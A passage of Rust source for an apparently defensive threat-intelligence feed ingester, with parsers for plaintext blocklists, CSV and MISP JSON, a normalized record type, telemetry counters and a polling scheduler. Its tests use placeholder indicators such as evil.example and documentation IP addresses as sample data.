            for (p, g) in parsed.iter().zip(&feed.records) {
                assert_eq!(p.observable.value(), g.observable.value());
            }
        }
    }

    #[test]
    fn overlap_produces_cross_feed_duplicates() {
        let set = SyntheticFeedSet::generate(&SyntheticConfig {
            feeds: 4,
            records_per_feed: 200,
            duplicate_rate: 0.0,
            overlap_rate: 0.5,
            categories: vec![ThreatCategory::MalwareDomain],
            ..SyntheticConfig::default()
        });
        assert!(set.unique_record_count() < set.total_record_count());
    }

    #[test]
    fn every_category_generates_valid_observables() {
        for category in ThreatCategory::ALL {
            let set = SyntheticFeedSet::generate(&SyntheticConfig {
                feeds: 1,
                records_per_feed: 30,
                duplicate_rate: 0.0,
                overlap_rate: 0.0,
                categories: vec![category],
                formats: vec![FeedFormat::PlainText],
                ..SyntheticConfig::default()
            });
            assert_eq!(set.total_record_count(), 30, "{category}");
        }
    }
}
