//! Parsers for the feed formats the platform ingests.
//!
//! Each submodule parses one wire format into normalized
//! [`crate::FeedRecord`]s:
//!
//! * [`plaintext`] — one indicator per line (blocklist style),
//! * [`csv`] — comma-separated with a header row,
//! * [`misp_feed`] — MISP feed JSON.

pub mod csv;
pub mod misp_feed;
pub mod plaintext;

use crate::{FeedError, FeedFormat, FeedRecord, ThreatCategory};

/// Parses a payload in any supported format.
///
/// # Errors
///
/// Returns [`FeedError::Parse`] when the payload does not conform to the
/// declared format.
pub fn parse_payload(
    format: FeedFormat,
    payload: &str,
    source: &str,
    category: ThreatCategory,
) -> Result<Vec<FeedRecord>, FeedError> {
    match format {
        FeedFormat::PlainText => plaintext::parse(payload, source, category),
        FeedFormat::Csv => csv::parse(payload, source, category),
        FeedFormat::MispFeed => misp_feed::parse(payload, source, category),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dispatches_by_format() {
        let recs = parse_payload(
            FeedFormat::PlainText,
            "evil.example\n",
            "f",
            ThreatCategory::MalwareDomain,
        )
        .unwrap();
        assert_eq!(recs.len(), 1);
    }
}
