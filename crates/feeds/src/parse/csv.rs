//! CSV feed parsing, including a small RFC 4180 reader.
//!
//! Many OSINT feeds (abuse.ch trackers, phishing databases) publish CSV
//! with a header row. The reader implemented here handles quoted fields,
//! embedded commas, doubled-quote escapes and CRLF line endings — the
//! parts of RFC 4180 that occur in practice.

use cais_common::{Observable, Timestamp};

use crate::{FeedError, FeedRecord, ThreatCategory};

/// Splits one CSV record (line) into fields, honoring quotes.
///
/// Returns `None` when the line has unbalanced quotes.
fn split_record(line: &str) -> Option<Vec<String>> {
    let mut fields = Vec::new();
    let mut field = String::new();
    let mut chars = line.chars().peekable();
    let mut in_quotes = false;
    while let Some(c) = chars.next() {
        if in_quotes {
            match c {
                '"' => {
                    if chars.peek() == Some(&'"') {
                        field.push('"');
                        chars.next();
                    } else {
                        in_quotes = false;
                    }
                }
                other => field.push(other),
            }
        } else {
            match c {
                '"' if field.is_empty() => in_quotes = true,
                ',' => {
                    fields.push(std::mem::take(&mut field));
                }
                other => field.push(other),
            }
        }
    }
    if in_quotes {
        return None;
    }
    fields.push(field);
    Some(fields)
}

/// Column roles recognized in a CSV header.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    Value,
    Timestamp,
    Description,
    Cve,
    Tag,
    Ignore,
}

fn header_role(name: &str) -> Role {
    match name.trim().to_ascii_lowercase().as_str() {
        "value" | "indicator" | "ioc" | "domain" | "ip" | "url" | "host" | "md5" | "sha1"
        | "sha256" | "hash" | "address" | "dst_ip" => Role::Value,
        "timestamp" | "date" | "firstseen" | "first_seen" | "dateadded" | "seen" => Role::Timestamp,
        "description" | "comment" | "malware" | "threat" | "notes" => Role::Description,
        "cve" | "cve_id" => Role::Cve,
        "tag" | "tags" | "type" | "status" => Role::Tag,
        _ => Role::Ignore,
    }
}

/// Parses a CSV feed with a header row into records.
///
/// The header determines column roles by name (`value`/`indicator`/
/// `domain`/… → indicator value; `date`/`firstseen` → timestamp;
/// `description`/`malware` → description; `cve` → CVE; `tags`/`type` →
/// tags). Rows whose value column does not parse as an observable are
/// skipped.
///
/// # Errors
///
/// Returns [`FeedError::Parse`] when the header has no value column or a
/// row has unbalanced quotes.
///
/// # Examples
///
/// ```
/// use cais_feeds::{parse::csv, ThreatCategory};
///
/// let payload = "\
/// firstseen,indicator,malware\n\
/// 2019-04-02,c2.evil.example,\"emotet, epoch 1\"\n";
/// let records = csv::parse(payload, "tracker", ThreatCategory::CommandAndControl)?;
/// assert_eq!(records[0].description.as_deref(), Some("emotet, epoch 1"));
/// # Ok::<(), cais_feeds::FeedError>(())
/// ```
pub fn parse(
    payload: &str,
    source: &str,
    category: ThreatCategory,
) -> Result<Vec<FeedRecord>, FeedError> {
    let now = Timestamp::now();
    let mut lines = payload
        .lines()
        .map(str::trim_end)
        .enumerate()
        .filter(|(_, l)| !l.trim().is_empty() && !l.starts_with('#'));
    let Some((header_idx, header_line)) = lines.next() else {
        return Ok(Vec::new());
    };
    let header = split_record(header_line)
        .ok_or_else(|| FeedError::parse(source, Some(header_idx + 1), "unbalanced quotes"))?;
    let roles: Vec<Role> = header.iter().map(|h| header_role(h)).collect();
    let value_col = roles
        .iter()
        .position(|r| *r == Role::Value)
        .ok_or_else(|| FeedError::parse(source, Some(header_idx + 1), "no value column"))?;

    let mut records = Vec::new();
    for (idx, line) in lines {
        let fields = split_record(line)
            .ok_or_else(|| FeedError::parse(source, Some(idx + 1), "unbalanced quotes"))?;
        let Some(raw_value) = fields.get(value_col) else {
            continue;
        };
        let Some(observable) = Observable::parse(raw_value) else {
            continue;
        };
        let mut record = FeedRecord::new(observable, category, source, now);
        for (field, role) in fields.iter().zip(&roles) {
            match role {
                Role::Timestamp => {
                    if let Ok(ts) = Timestamp::parse_rfc3339(field.trim()) {
                        record.seen_at = ts;
                    }
                }
                Role::Description if !field.trim().is_empty() => {
                    record.description = Some(field.trim().to_owned());
                }
                Role::Cve if !field.trim().is_empty() => {
                    record.cve = Some(field.trim().to_ascii_uppercase());
                }
                Role::Tag if !field.trim().is_empty() => {
                    record.tags.push(field.trim().to_owned());
                }
                _ => {}
            }
        }
        records.push(record);
    }
    Ok(records)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn split_handles_quotes_and_escapes() {
        assert_eq!(
            split_record(r#"a,"b,c","d""e",f"#).unwrap(),
            vec!["a", "b,c", "d\"e", "f"]
        );
        assert_eq!(
            split_record("plain,fields").unwrap(),
            vec!["plain", "fields"]
        );
        assert_eq!(split_record("").unwrap(), vec![""]);
        assert!(split_record(r#"a,"unbalanced"#).is_none());
    }

    #[test]
    fn parses_abuse_ch_style() {
        let payload = "\
# comment header kept by some trackers
firstseen,indicator,malware,status
2019-04-02T06:30:00Z,c2.evil.example,emotet,online
2019-04-03T10:00:00Z,203.0.113.9,trickbot,offline
";
        let records = parse(payload, "tracker", ThreatCategory::CommandAndControl).unwrap();
        assert_eq!(records.len(), 2);
        assert_eq!(
            records[0].seen_at,
            Timestamp::parse_rfc3339("2019-04-02T06:30:00Z").unwrap()
        );
        assert_eq!(records[0].description.as_deref(), Some("emotet"));
        assert_eq!(records[1].tags, vec!["offline"]);
    }

    #[test]
    fn cve_column_is_captured() {
        let payload = "indicator,cve\nevil.example,cve-2017-9805\n";
        let records = parse(payload, "f", ThreatCategory::VulnerabilityExploitation).unwrap();
        assert_eq!(records[0].cve.as_deref(), Some("CVE-2017-9805"));
    }

    #[test]
    fn missing_value_column_is_error() {
        let payload = "date,notes\n2019-01-01,hello\n";
        assert!(parse(payload, "f", ThreatCategory::Spam).is_err());
    }

    #[test]
    fn unparsable_rows_are_skipped() {
        let payload = "indicator\nnot-an-indicator\nevil.example\n";
        let records = parse(payload, "f", ThreatCategory::MalwareDomain).unwrap();
        assert_eq!(records.len(), 1);
    }

    #[test]
    fn empty_payload_is_empty() {
        assert!(parse("", "f", ThreatCategory::Spam).unwrap().is_empty());
    }
}
