//! MISP feed JSON parsing.
//!
//! MISP feeds serve event documents of the form:
//!
//! ```json
//! {"Event": {"uuid": "…", "info": "…", "date": "2019-04-02",
//!            "Attribute": [{"type": "domain", "value": "evil.example",
//!                           "category": "Network activity",
//!                           "comment": "…"}]}}
//! ```
//!
//! Parsing is lenient (unknown fields ignored, unparsable attributes
//! skipped) because feed quality varies widely in practice.

use cais_common::{Observable, Timestamp};
use serde_json::Value;

use crate::{FeedError, FeedRecord, ThreatCategory};

/// Parses a MISP feed event document into records.
///
/// Either a single `{"Event": …}` document or a JSON array of them is
/// accepted.
///
/// # Errors
///
/// Returns [`FeedError::Parse`] when the payload is not JSON or carries
/// no `Event` object.
pub fn parse(
    payload: &str,
    source: &str,
    category: ThreatCategory,
) -> Result<Vec<FeedRecord>, FeedError> {
    let value: Value = serde_json::from_str(payload)
        .map_err(|e| FeedError::parse(source, None, format!("invalid JSON: {e}")))?;
    let events: Vec<&Value> = match &value {
        Value::Array(items) => items.iter().collect(),
        single => vec![single],
    };
    let mut records = Vec::new();
    let mut saw_event = false;
    for event_doc in events {
        let Some(event) = event_doc.get("Event") else {
            continue;
        };
        saw_event = true;
        let event_time = event
            .get("date")
            .and_then(Value::as_str)
            .and_then(|d| Timestamp::parse_rfc3339(d).ok())
            .unwrap_or_else(Timestamp::now);
        let info = event.get("info").and_then(Value::as_str);
        let Some(attributes) = event.get("Attribute").and_then(Value::as_array) else {
            continue;
        };
        for attribute in attributes {
            let Some(raw_value) = attribute.get("value").and_then(Value::as_str) else {
                continue;
            };
            let Some(observable) = Observable::parse(raw_value) else {
                continue;
            };
            let seen_at = attribute
                .get("timestamp")
                .and_then(|t| match t {
                    Value::String(s) => s.parse::<i64>().ok(),
                    Value::Number(n) => n.as_i64(),
                    _ => None,
                })
                .map(Timestamp::from_unix_secs)
                .unwrap_or(event_time);
            let mut record = FeedRecord::new(observable, category, source, seen_at);
            if let Some(comment) = attribute
                .get("comment")
                .and_then(Value::as_str)
                .filter(|c| !c.is_empty())
            {
                record.description = Some(comment.to_owned());
            } else if let Some(info) = info {
                record.description = Some(info.to_owned());
            }
            if let Some(misp_category) = attribute.get("category").and_then(Value::as_str) {
                record.tags.push(misp_category.to_owned());
            }
            if record.observable.kind() == cais_common::ObservableKind::Cve {
                record.cve = Some(record.observable.value().to_owned());
            }
            records.push(record);
        }
    }
    if !saw_event {
        return Err(FeedError::parse(source, None, "no Event object in payload"));
    }
    Ok(records)
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = r#"{
        "Event": {
            "uuid": "5c9f9a72-1234-4f6a-9d10-4f8a9c2d0001",
            "info": "OSINT - emotet epoch 1 infrastructure",
            "date": "2019-04-02",
            "Attribute": [
                {"type": "domain", "value": "c2.evil.example",
                 "category": "Network activity", "timestamp": "1554200000"},
                {"type": "ip-dst", "value": "203.0.113.9",
                 "category": "Network activity", "comment": "tier-2 c2"},
                {"type": "other", "value": "not parseable as indicator"}
            ]
        }
    }"#;

    #[test]
    fn parses_misp_event() {
        let records = parse(SAMPLE, "misp-osint", ThreatCategory::CommandAndControl).unwrap();
        assert_eq!(records.len(), 2);
        assert_eq!(records[0].observable.value(), "c2.evil.example");
        assert_eq!(records[0].seen_at, Timestamp::from_unix_secs(1_554_200_000));
        assert_eq!(
            records[0].description.as_deref(),
            Some("OSINT - emotet epoch 1 infrastructure")
        );
        assert_eq!(records[1].description.as_deref(), Some("tier-2 c2"));
        assert_eq!(records[0].tags, vec!["Network activity"]);
    }

    #[test]
    fn parses_array_of_events() {
        let payload = format!("[{SAMPLE}, {SAMPLE}]");
        let records = parse(&payload, "f", ThreatCategory::CommandAndControl).unwrap();
        assert_eq!(records.len(), 4);
    }

    #[test]
    fn cve_attributes_fill_cve_field() {
        let payload = r#"{"Event": {"date": "2017-09-13", "Attribute":
            [{"type": "vulnerability", "value": "CVE-2017-9805"}]}}"#;
        let records = parse(payload, "f", ThreatCategory::VulnerabilityExploitation).unwrap();
        assert_eq!(records[0].cve.as_deref(), Some("CVE-2017-9805"));
    }

    #[test]
    fn non_json_is_error() {
        assert!(parse("not json", "f", ThreatCategory::Spam).is_err());
    }

    #[test]
    fn json_without_event_is_error() {
        assert!(parse(r#"{"foo": 1}"#, "f", ThreatCategory::Spam).is_err());
    }
}
