//! Plaintext blocklist parsing: one indicator per line.
//!
//! This is the dominant OSINT feed format (malware-domain lists, botnet
//! IP lists): one value per line, blank lines ignored, `#` and `;`
//! starting comments, optional inline comments after whitespace.

use cais_common::{Observable, Timestamp};

use crate::{FeedError, FeedRecord, ThreatCategory};

/// Parses a plaintext blocklist into records.
///
/// Unrecognizable lines are *skipped*, not fatal: real blocklists carry
/// headers and the occasional garbage line, and the paper's pipeline
/// normalizes whatever it can. A payload where *no* line parses is
/// reported as an error, since it most likely means the wrong format was
/// configured.
///
/// # Errors
///
/// Returns [`FeedError::Parse`] when the payload is non-empty but yields
/// zero indicators.
///
/// # Examples
///
/// ```
/// use cais_feeds::{parse::plaintext, ThreatCategory};
///
/// let payload = "# c2 list 2019-04-02\n203.0.113.9\n198.51.100.7 ; seen twice\n";
/// let records = plaintext::parse(payload, "c2-feed", ThreatCategory::CommandAndControl)?;
/// assert_eq!(records.len(), 2);
/// assert_eq!(records[1].observable.value(), "198.51.100.7");
/// # Ok::<(), cais_feeds::FeedError>(())
/// ```
pub fn parse(
    payload: &str,
    source: &str,
    category: ThreatCategory,
) -> Result<Vec<FeedRecord>, FeedError> {
    let now = Timestamp::now();
    let mut records = Vec::new();
    let mut non_comment_lines = 0usize;
    for raw_line in payload.lines() {
        let line = raw_line.trim();
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        non_comment_lines += 1;
        // Strip inline comments.
        let value = line
            .split(['#', ';'])
            .next()
            .unwrap_or_default()
            .split_whitespace()
            .last()
            .unwrap_or_default();
        if let Some(observable) = Observable::parse(value) {
            records.push(FeedRecord::new(observable, category, source, now));
        }
    }
    if records.is_empty() && non_comment_lines > 0 {
        return Err(FeedError::parse(
            source,
            None,
            "no line parsed as an indicator; wrong format configured?",
        ));
    }
    Ok(records)
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::ObservableKind;

    #[test]
    fn parses_mixed_indicator_kinds() {
        let payload =
            "evil.example\n203.0.113.9\nd41d8cd98f00b204e9800998ecf8427e\nCVE-2017-9805\n";
        let records = parse(payload, "mixed", ThreatCategory::MalwareDomain).unwrap();
        let kinds: Vec<ObservableKind> = records.iter().map(|r| r.observable.kind()).collect();
        assert_eq!(
            kinds,
            vec![
                ObservableKind::Domain,
                ObservableKind::Ipv4,
                ObservableKind::Md5,
                ObservableKind::Cve
            ]
        );
    }

    #[test]
    fn skips_comments_and_blanks() {
        let payload = "# header\n\n; note\nevil.example # inline\nbad.example ; inline\n";
        let records = parse(payload, "f", ThreatCategory::MalwareDomain).unwrap();
        assert_eq!(records.len(), 2);
        assert_eq!(records[0].observable.value(), "evil.example");
        assert_eq!(records[1].observable.value(), "bad.example");
    }

    #[test]
    fn hosts_file_style() {
        let payload = "127.0.0.1 evil.example\n0.0.0.0 c2.evil.example\n";
        let records = parse(payload, "hosts", ThreatCategory::MalwareDomain).unwrap();
        assert_eq!(records.len(), 2);
        assert_eq!(records[0].observable.kind(), ObservableKind::Domain);
    }

    #[test]
    fn empty_payload_is_ok() {
        assert!(parse("", "f", ThreatCategory::Spam).unwrap().is_empty());
        assert!(parse("# only comments\n", "f", ThreatCategory::Spam)
            .unwrap()
            .is_empty());
    }

    #[test]
    fn all_garbage_is_error() {
        let err = parse("not an indicator\nat all\n", "f", ThreatCategory::Spam).unwrap_err();
        assert!(matches!(err, FeedError::Parse { .. }));
    }
}
