//! The normalized feed record and its vocabulary.

use std::fmt;

use cais_common::{Observable, Timestamp};
use serde::{Deserialize, Serialize};

/// The threat category a feed (or record) reports on.
///
/// The paper's collector "aggregates the security events by threat
/// category, resulting in sets of events regarding a same category"
/// (Section III-A1); this is that grouping key.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum ThreatCategory {
    /// Domains serving malware.
    MalwareDomain,
    /// Phishing pages and senders.
    Phishing,
    /// Botnet command-and-control endpoints.
    CommandAndControl,
    /// Vulnerability advisories and exploitation reports.
    VulnerabilityExploitation,
    /// Hosts scanning the internet.
    Scanner,
    /// Spam senders.
    Spam,
    /// Ransomware infrastructure and samples.
    Ransomware,
    /// Malware sample hashes.
    MalwareSample,
}

impl ThreatCategory {
    /// All categories.
    pub const ALL: [ThreatCategory; 8] = [
        ThreatCategory::MalwareDomain,
        ThreatCategory::Phishing,
        ThreatCategory::CommandAndControl,
        ThreatCategory::VulnerabilityExploitation,
        ThreatCategory::Scanner,
        ThreatCategory::Spam,
        ThreatCategory::Ransomware,
        ThreatCategory::MalwareSample,
    ];

    /// The kebab-case wire name.
    pub fn as_str(self) -> &'static str {
        match self {
            ThreatCategory::MalwareDomain => "malware-domain",
            ThreatCategory::Phishing => "phishing",
            ThreatCategory::CommandAndControl => "command-and-control",
            ThreatCategory::VulnerabilityExploitation => "vulnerability-exploitation",
            ThreatCategory::Scanner => "scanner",
            ThreatCategory::Spam => "spam",
            ThreatCategory::Ransomware => "ransomware",
            ThreatCategory::MalwareSample => "malware-sample",
        }
    }

    /// Parses a wire name.
    pub fn from_name(name: &str) -> Option<ThreatCategory> {
        ThreatCategory::ALL.into_iter().find(|c| c.as_str() == name)
    }
}

impl fmt::Display for ThreatCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// The serialization format a feed publishes in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum FeedFormat {
    /// One indicator value per line, `#`/`;` comments.
    PlainText,
    /// Comma-separated values with a header row.
    Csv,
    /// MISP feed JSON (one event with attributes).
    MispFeed,
}

/// A normalized security event from an OSINT feed.
///
/// Whatever the original format, every feed entry normalizes to this
/// shape before deduplication and aggregation.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FeedRecord {
    /// The indicator value.
    pub observable: Observable,
    /// The threat category the feed reports.
    pub category: ThreatCategory,
    /// Name of the feed that published the record.
    pub source: String,
    /// When the feed says the indicator was seen (or the fetch time).
    pub seen_at: Timestamp,
    /// Free-text context, when the format carries one.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub description: Option<String>,
    /// A CVE identifier, when the record is a vulnerability advisory.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cve: Option<String>,
    /// Tags carried by the feed entry.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub tags: Vec<String>,
}

impl FeedRecord {
    /// Creates a record with the required fields.
    pub fn new(
        observable: Observable,
        category: ThreatCategory,
        source: impl Into<String>,
        seen_at: Timestamp,
    ) -> Self {
        FeedRecord {
            observable,
            category,
            source: source.into(),
            seen_at,
            description: None,
            cve: None,
            tags: Vec::new(),
        }
    }

    /// The content-based deduplication key: category plus normalized
    /// observable. Two records with equal keys describe the same threat
    /// datum regardless of which feed delivered them.
    pub fn dedup_key(&self) -> String {
        format!("{}|{}", self.category, self.observable.dedup_key())
    }

    /// Sets the description, builder-style.
    pub fn with_description(mut self, description: impl Into<String>) -> Self {
        self.description = Some(description.into());
        self
    }

    /// Sets the CVE, builder-style.
    pub fn with_cve(mut self, cve: impl Into<String>) -> Self {
        self.cve = Some(cve.into());
        self
    }

    /// Adds a tag, builder-style.
    pub fn with_tag(mut self, tag: impl Into<String>) -> Self {
        self.tags.push(tag.into());
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::ObservableKind;

    #[test]
    fn category_names_roundtrip() {
        for c in ThreatCategory::ALL {
            assert_eq!(ThreatCategory::from_name(c.as_str()), Some(c));
        }
        assert_eq!(ThreatCategory::from_name("x"), None);
    }

    #[test]
    fn dedup_key_ignores_source_and_time() {
        let a = FeedRecord::new(
            Observable::new(ObservableKind::Domain, "Evil.Example"),
            ThreatCategory::MalwareDomain,
            "feed-a",
            Timestamp::EPOCH,
        );
        let b = FeedRecord::new(
            Observable::new(ObservableKind::Domain, "evil.example"),
            ThreatCategory::MalwareDomain,
            "feed-b",
            Timestamp::EPOCH.add_days(3),
        );
        assert_eq!(a.dedup_key(), b.dedup_key());
        // Same value under a different category is a different datum.
        let c = FeedRecord::new(
            Observable::new(ObservableKind::Domain, "evil.example"),
            ThreatCategory::Phishing,
            "feed-b",
            Timestamp::EPOCH,
        );
        assert_ne!(a.dedup_key(), c.dedup_key());
    }

    #[test]
    fn serde_roundtrip() {
        let r = FeedRecord::new(
            Observable::new(ObservableKind::Cve, "CVE-2017-9805"),
            ThreatCategory::VulnerabilityExploitation,
            "nvd-feed",
            Timestamp::EPOCH,
        )
        .with_description("struts RCE")
        .with_cve("CVE-2017-9805")
        .with_tag("rce");
        let json = serde_json::to_string(&r).unwrap();
        let back: FeedRecord = serde_json::from_str(&json).unwrap();
        assert_eq!(back, r);
    }
}
