//! Feed-ingestion telemetry: counters over fetch/parse outcomes.

use cais_telemetry::{Counter, Gauge, Registry};

use crate::FeedError;

/// Cached counter handles for feed ingestion
/// (`feeds_rounds_ok_total`, `feeds_records_total`,
/// `feeds_fetch_errors_total`, `feeds_parse_errors_total`), plus the
/// resilience surface: `feeds_retries_total`,
/// `feeds_breaker_opened_total`, `feeds_breaker_closed_total`,
/// `feeds_quarantined_polls_total` and the
/// `feeds_sources_quarantined` gauge.
///
/// Used by [`FeedScheduler::instrument`](crate::FeedScheduler::instrument)
/// and usable directly by anything that polls sources by hand.
#[derive(Debug, Clone)]
pub struct FeedIngestMetrics {
    rounds_ok: Counter,
    records: Counter,
    fetch_errors: Counter,
    parse_errors: Counter,
    retries: Counter,
    breaker_opened: Counter,
    breaker_closed: Counter,
    quarantined_polls: Counter,
    sources_quarantined: Gauge,
}

impl FeedIngestMetrics {
    /// Registers (or re-attaches to) the feed counters in a registry.
    pub fn new(registry: &Registry) -> Self {
        FeedIngestMetrics {
            rounds_ok: registry.counter("feeds_rounds_ok_total"),
            records: registry.counter("feeds_records_total"),
            fetch_errors: registry.counter("feeds_fetch_errors_total"),
            parse_errors: registry.counter("feeds_parse_errors_total"),
            retries: registry.counter("feeds_retries_total"),
            breaker_opened: registry.counter("feeds_breaker_opened_total"),
            breaker_closed: registry.counter("feeds_breaker_closed_total"),
            quarantined_polls: registry.counter("feeds_quarantined_polls_total"),
            sources_quarantined: registry.gauge("feeds_sources_quarantined"),
        }
    }

    /// Records a successful collection round of `records` records.
    pub fn observe_round(&self, records: usize) {
        self.rounds_ok.inc();
        self.records.add(records as u64);
    }

    /// Records a failed round, classifying the error: parse failures
    /// land in `feeds_parse_errors_total`, fetch and I/O failures in
    /// `feeds_fetch_errors_total`.
    pub fn observe_error(&self, error: &FeedError) {
        match error {
            FeedError::Parse { .. } => self.parse_errors.inc(),
            FeedError::Fetch { .. } | FeedError::Io(_) => self.fetch_errors.inc(),
        }
    }

    /// Records either outcome of one collection attempt.
    pub fn observe_result(&self, result: &Result<Vec<crate::FeedRecord>, FeedError>) {
        match result {
            Ok(records) => self.observe_round(records.len()),
            Err(error) => self.observe_error(error),
        }
    }

    /// Records retries spent since the last observation.
    pub fn observe_retries(&self, retries: u64) {
        if retries > 0 {
            self.retries.add(retries);
        }
    }

    /// Records breaker transitions since the last observation.
    pub fn observe_breaker(&self, opened: u64, closed: u64) {
        if opened > 0 {
            self.breaker_opened.add(opened);
        }
        if closed > 0 {
            self.breaker_closed.add(closed);
        }
    }

    /// Records one poll skipped because the source's breaker was open.
    pub fn observe_quarantined_poll(&self) {
        self.quarantined_polls.inc();
    }

    /// Updates the count of currently quarantined sources.
    pub fn set_sources_quarantined(&self, count: u64) {
        self.sources_quarantined.set(count as i64);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classifies_errors() {
        let registry = Registry::new();
        let metrics = FeedIngestMetrics::new(&registry);
        metrics.observe_round(7);
        metrics.observe_error(&FeedError::parse("f", Some(3), "bad line"));
        metrics.observe_error(&FeedError::fetch("f", "timeout"));
        metrics.observe_error(&FeedError::Io(std::io::Error::other("down")));
        let counters = registry.snapshot().counters;
        assert_eq!(counters["feeds_rounds_ok_total"], 1);
        assert_eq!(counters["feeds_records_total"], 7);
        assert_eq!(counters["feeds_parse_errors_total"], 1);
        assert_eq!(counters["feeds_fetch_errors_total"], 2);
    }

    #[test]
    fn observe_result_covers_both_arms() {
        let registry = Registry::new();
        let metrics = FeedIngestMetrics::new(&registry);
        metrics.observe_result(&Ok(Vec::new()));
        metrics.observe_result(&Err(FeedError::parse("f", None, "garbage")));
        let counters = registry.snapshot().counters;
        assert_eq!(counters["feeds_rounds_ok_total"], 1);
        assert_eq!(counters["feeds_parse_errors_total"], 1);
    }
}
