//! Periodic feed polling.
//!
//! The scheduler polls every registered source on its own interval from
//! a single background thread and hands parsed records to a sink
//! callback. Fetch failures are counted and retried on the next tick —
//! one flaky feed must not stall the others.

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use crate::telemetry::FeedIngestMetrics;
use crate::{FeedRecord, FeedSource};

struct Entry {
    source: Box<dyn FeedSource>,
    interval: Duration,
    next_due: Instant,
}

/// Aggregate counters for a running scheduler.
#[derive(Debug, Default)]
pub struct SchedulerStats {
    /// Successful fetch+parse rounds.
    pub rounds_ok: AtomicU64,
    /// Failed rounds (fetch or parse).
    pub rounds_failed: AtomicU64,
    /// Total records delivered to the sink.
    pub records_delivered: AtomicU64,
}

/// Builds and starts a feed-polling loop.
///
/// # Examples
///
/// ```
/// use std::sync::{Arc, Mutex};
/// use std::time::Duration;
/// use cais_feeds::{FeedScheduler, MemorySource, FeedFormat, ThreatCategory};
///
/// let collected = Arc::new(Mutex::new(Vec::new()));
/// let sink = Arc::clone(&collected);
/// let mut scheduler = FeedScheduler::new(move |records| {
///     sink.lock().unwrap().extend(records);
/// });
/// scheduler.add_source(
///     Box::new(MemorySource::new(
///         "feed", FeedFormat::PlainText, ThreatCategory::MalwareDomain,
///         "evil.example\n",
///     )),
///     Duration::from_millis(10),
/// );
/// let handle = scheduler.start(Duration::from_millis(5));
/// std::thread::sleep(Duration::from_millis(60));
/// handle.stop();
/// assert!(!collected.lock().unwrap().is_empty());
/// ```
pub struct FeedScheduler<F> {
    sink: F,
    entries: Vec<Entry>,
    stats: Arc<SchedulerStats>,
    metrics: Option<FeedIngestMetrics>,
}

impl<F> FeedScheduler<F>
where
    F: FnMut(Vec<FeedRecord>) + Send + 'static,
{
    /// Creates a scheduler delivering records to `sink`.
    pub fn new(sink: F) -> Self {
        FeedScheduler {
            sink,
            entries: Vec::new(),
            stats: Arc::new(SchedulerStats::default()),
            metrics: None,
        }
    }

    /// Attaches telemetry: every round also records
    /// `feeds_rounds_ok_total` / `feeds_records_total` /
    /// `feeds_fetch_errors_total` / `feeds_parse_errors_total`
    /// into the registry, alongside the [`SchedulerStats`] atomics.
    pub fn instrument(&mut self, registry: &cais_telemetry::Registry) {
        self.metrics = Some(FeedIngestMetrics::new(registry));
    }

    /// Registers a source polled every `interval`. The first poll happens
    /// immediately after start.
    pub fn add_source(&mut self, source: Box<dyn FeedSource>, interval: Duration) {
        self.entries.push(Entry {
            source,
            interval,
            next_due: Instant::now(),
        });
    }

    /// Shared statistics handle (live while the loop runs).
    pub fn stats(&self) -> Arc<SchedulerStats> {
        Arc::clone(&self.stats)
    }

    /// Starts the polling loop on a background thread, checking due
    /// sources every `tick`.
    pub fn start(mut self, tick: Duration) -> SchedulerHandle {
        let stop = Arc::new(AtomicBool::new(false));
        let stop_flag = Arc::clone(&stop);
        let stats = Arc::clone(&self.stats);
        let handle = std::thread::Builder::new()
            .name("cais-feed-scheduler".into())
            .spawn(move || {
                while !stop_flag.load(Ordering::Relaxed) {
                    let now = Instant::now();
                    for entry in &mut self.entries {
                        if now < entry.next_due {
                            continue;
                        }
                        entry.next_due = now + entry.interval;
                        let result = entry.source.collect();
                        if let Some(metrics) = &self.metrics {
                            metrics.observe_result(&result);
                        }
                        match result {
                            Ok(records) => {
                                stats.rounds_ok.fetch_add(1, Ordering::Relaxed);
                                stats
                                    .records_delivered
                                    .fetch_add(records.len() as u64, Ordering::Relaxed);
                                (self.sink)(records);
                            }
                            Err(_) => {
                                stats.rounds_failed.fetch_add(1, Ordering::Relaxed);
                            }
                        }
                    }
                    std::thread::sleep(tick);
                }
            })
            .expect("spawn feed scheduler thread");
        SchedulerHandle {
            stop,
            thread: Some(handle),
        }
    }
}

/// Handle controlling a running scheduler; stopping joins the thread.
#[derive(Debug)]
pub struct SchedulerHandle {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl SchedulerHandle {
    /// Signals the loop to stop and waits for it to finish.
    pub fn stop(mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

impl Drop for SchedulerHandle {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{FeedFormat, FlakySource, MemorySource, ThreatCategory};
    use std::sync::Mutex;

    fn mem(payload: &str) -> MemorySource {
        MemorySource::new(
            "feed",
            FeedFormat::PlainText,
            ThreatCategory::MalwareDomain,
            payload,
        )
    }

    #[test]
    fn polls_and_delivers() {
        let collected = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&collected);
        let mut scheduler = FeedScheduler::new(move |records| {
            sink.lock().unwrap().extend(records);
        });
